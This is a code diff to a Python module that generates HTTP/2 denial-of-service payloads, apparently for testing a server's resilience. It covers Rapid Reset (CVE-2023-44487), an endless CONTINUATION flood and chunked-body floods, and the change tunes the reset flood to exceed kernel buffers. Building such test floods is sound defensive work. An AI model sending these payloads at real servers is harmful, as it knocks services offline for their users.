@@ -28,6 +28,10 @@ HEAD = b"\x82\x86\x84\x41\x01x"
 FIELDS = b"\x40\x01a\x01b" * 4
 CANCEL = b"\0\0\0\x08"
 PIECE = 65_536
+UNREAD = 16 << 20
+"""Bytes of resets for a connection: more than the kernel takes unread (`tcp_wmem`, `tcp_rmem`), so that no client
+closes because it has sent all."""
+
 ROUND_TRIP = 0.01
 """Seconds from the end of a connection to the next one."""
 
@@ -39,6 +43,10 @@ STREAMS = 100
 
 def frame(kind: int, payload: bytes, stream: int, flags: int = 0) -> bytes:
     return len(payload).to_bytes(3, "big") + bytes((kind, flags)) + stream.to_bytes(4, "big") + payload
+
+
+CONTINUED = frame(9, FIELDS, 1)
+PIECES = 50_000
 
 
 def text(data: bytes) -> bytes:
@@ -59,12 +67,14 @@ def over_http2(*frames: bytes) -> bytes:
 
 def resets() -> bytes:
     """Rapid Reset (CVE-2023-44487): requests that are reset at once."""
-    return over_http2(*(frame(1, HEAD, one, 5) + frame(3, CANCEL, one) for one in range(1, 100_000, 2)))
+    pair = len(frame(1, HEAD, 1) + frame(3, CANCEL, 1))
+    ids = range(1, 2 * UNREAD // pair, 2)
+    return over_http2(*(frame(1, HEAD, one, 5) + frame(3, CANCEL, one) for one in ids))
 
 
 def continuation() -> bytes:
     """A head without end (VU#421644)."""
-    return over_http2(frame(1, HEAD, 1, 1), frame(9, FIELDS, 1) * 50_000)
+    return over_http2(frame(1, HEAD, 1, 1), CONTINUED * PIECES)
 
 
 def requests(first: bytes, others: bytes, number: int = STREAMS, flags: int = 5) -> bytes:
@@ -86,7 +96,6 @@ def referring(path: bytes, size: int, times: int, number: int = STREAMS) -> byte
 
 TUNNEL = b"\x00" + text(b":protocol") + text(b"websocket")
 CHUNKED = b"POST /held HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n"
-PIECES = 50_000
 BODIES = b"".join(frame(0, bytes(PIECE // 4), 1 + 2 * one) for one in range(STREAMS)) * 3
 
 FLOODS: dict[str, Callable[[], bytes]] = {
@@ -103,7 +112,7 @@ FLOODS: dict[str, Callable[[], bytes]] = {
 }
 """What each kind sends."""
 
-ENDLESS = {"frames": 10 * PIECES, "chunks": 6 * PIECES}
+ENDLESS = {"continuation": len(CONTINUED) * PIECES, "frames": 10 * PIECES, "chunks": 6 * PIECES}
 """Bytes at the end of what a kind sends that are sent again and again."""
 
 HOLDING = ("streams", "tunnels", "waiting", "heads", "bodies", "decoding")
